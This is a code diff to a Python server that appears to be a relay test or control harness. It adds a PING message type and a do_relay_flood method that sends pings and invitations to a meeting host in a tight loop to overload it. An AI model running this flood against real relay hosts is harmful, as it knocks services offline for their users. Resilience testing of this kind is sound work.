@@ -18,7 +18,7 @@ import sys
 
 NATS_PORT, RELAY_PORT, DECOY_PORT = 4222, 22067, 24222
 RELAY_MAGIC = 0x9E79BC40
-JOIN_RELAY, JOIN_SESSION, RESPONSE, CONNECT, INVITATION = 2, 3, 4, 5, 6
+PING, JOIN_RELAY, JOIN_SESSION, RESPONSE, CONNECT, INVITATION = 0, 2, 3, 4, 5, 6
 
 
 class Client:
@@ -185,6 +185,18 @@ class Server:
         for client in self.receivers(to):
             client.writer.transport.abort()
         return {}
+
+    async def do_relay_flood(self, seconds):
+        """Sends pings and invitations to the host of a meeting as fast as it takes them."""
+        body = b"".join(self.relay.opaque(part) for part in (b"i", b"k", b"a" * 4)) + bytes(8)
+        block = (self.relay.message(PING, b"") + self.relay.message(INVITATION, body)) * 1000
+        try:
+            async with asyncio.timeout(seconds):
+                while True:
+                    self.relay.host.write(block)
+                    await self.relay.host.drain()
+        except TimeoutError:
+            return {}
 
     async def control(self, reader, writer):
         while line := await reader.readline():
